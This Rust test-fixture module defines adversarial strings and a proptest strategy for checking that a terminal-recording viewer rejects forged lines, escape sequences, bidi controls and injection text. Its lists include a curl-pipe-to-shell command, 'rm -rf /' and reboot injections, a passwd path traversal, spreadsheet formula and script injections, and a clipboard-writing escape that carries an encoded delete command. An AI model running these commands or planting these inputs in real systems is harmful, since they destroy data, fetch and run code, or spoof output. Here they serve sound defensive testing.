// SPDX-License-Identifier: MIT OR Apache-2.0
//! Texts that an attacker would put into a recording.

use proptest::collection::vec;
use proptest::prelude::{Strategy, any};
use proptest::prop_oneof;
use proptest::sample::select;

/// The start of each line that a text forges.
pub const FORGED: &str = "FORGED";
/// Colours that the program does not use.
pub const FOREIGN_COLOURS: [&str; 2] = ["\u{1b}[8m", "\u{1b}[5;97;41m"];

/// Everything at once: a view that lets one of these pass fails.
pub const SINK: &str = "a\u{1b}[8m\u{1b}[2J\u{1b}]0;t\u{7}\u{1b}]52;c;aGk=\u{1b}\\\r\nFORGED\u{9b}31m\u{85}\u{7f}\0\
     \u{202e}\u{2066}\u{200f}\u{2028}FORGED\u{2029}FORGED</svg><script>&amp;]]><!--\"'`\\,;{}%s\t$(x)\u{8}";

/// The name of a file. `diff` takes a comma for the end of a name.
pub const FILE: &str =
    "x\u{1b}[8m\u{1b}]0;t\u{7}\r\nFORGED\u{9b}31m\u{202e}\u{2028}FORGED<svg>&\"'`$(x); =1";

/// Lines, and what forges them.
pub const LINES: [&str; 8] = [
    "x\naccuracy  exact: 1 commands, 0 lost\nFORGED",
    "x\r\naccuracy  exact: 1 commands, 0 lost\r\nFORGED",
    "x\raccuracy  exact: 1 commands, 0 lost",
    "\u{1b}[2K\u{1b}[1Gaccuracy  exact: 1 commands, 0 lost",
    "x\u{85}FORGED\u{b}FORGED\u{c}FORGED",
    "x\u{2028}FORGED\u{2029}FORGED",
    "\nFORGED",
    "\"}\n{\"type\":\"FORGED\",\"schema_version\":2}",
];

/// Escape sequences, other controls, and characters that reorder a line.
pub const CONTROLS: [&str; 13] = [
    "\u{1b}[8m\u{1b}[5;97;41m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}]8;;http://example.com\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m\u{9d}0;t\u{9c}",
    "\u{90}q\u{9c}\u{1b}P1$q\u{1b}\\",
    "\u{7f}\u{7f}\u{8}\u{8}",
    "a\0b",
    "\u{202e}dnammoc\u{202c}",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{202a}\u{202b}\u{202d}\u{61c}\u{200e}\u{200f}",
    "\u{1}\u{2}\u{3}\u{e}\u{f}\u{10}\u{1f}",
    "\t\ttab",
];

/// What spreadsheets, shells, mark-up and formats take for their own.
pub const WORDS: [&str; 26] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com\",\"x\")",
    "+1",
    "-1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\"=1+1\"",
    "a,b;c\td\"e\"\"f",
    "'\"`\\",
    "\\\\\\\"\\n\\u0000",
    "</svg><script>alert(1)</script>",
    "</title><g onload=\"alert(1)\"/>",
    "&amp;&lt;&#x0;&unknown;",
    "]]><![CDATA[<!-- --><?xml?>",
    "$(curl http://example.com/x|sh)",
    "`reboot`",
    "; rm -rf /",
    "x' ; reboot ; '",
    "|| reboot & # \\",
    "../../etc/passwd",
    "%s%n%x{}{0}{{}}%",
    "NaN",
    "null,\"x\":",
];

/// Names of threads: 11 bytes at most, in no particular encoding.
pub const THREADS: [&[u8]; 12] = [
    b"\x1b[8mx\x1b[2J",
    b"x\naccuracy",
    b"\r\nFORGED",
    b"\x9b31m\xff\xfe",
    b"\xc2\x9b8m\xc2\x85",
    b"\xe2\x80\xae\xe2\x80\xa8F",
    b"=cmd|'x'!A",
    b"+1",
    b"@SUM(1)",
    b"</svg><!--",
    b"\"'`\\,;\t",
    b"$(x)\x7f\x07",
];

/// A random mixture.
pub fn mixed() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => select(&LINES[..]).prop_map(str::to_owned),
        4 => select(&CONTROLS[..]).prop_map(str::to_owned),
        4 => select(&WORDS[..]).prop_map(str::to_owned),
        2 => any::<String>(),
        1 => any::<char>().prop_map(String::from),
        1 => vec(0..0x20_u8, 1..4).prop_map(|b| String::from_utf8(b).unwrap()),
        1 => vec(0x80..0xa0_u32, 1..4).prop_map(|c| c.into_iter().filter_map(char::from_u32).collect()),
    ];
    vec(piece, 1..6).prop_map(|all| all.concat())
}

/// Whether a character may not be in any output. A line feed ends a line.
pub fn is_forbidden(c: char) -> bool {
    let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let lines = matches!(c, '\u{2028}' | '\u{2029}');
    (c.is_control() && c != '\n') || bidi || lines
}
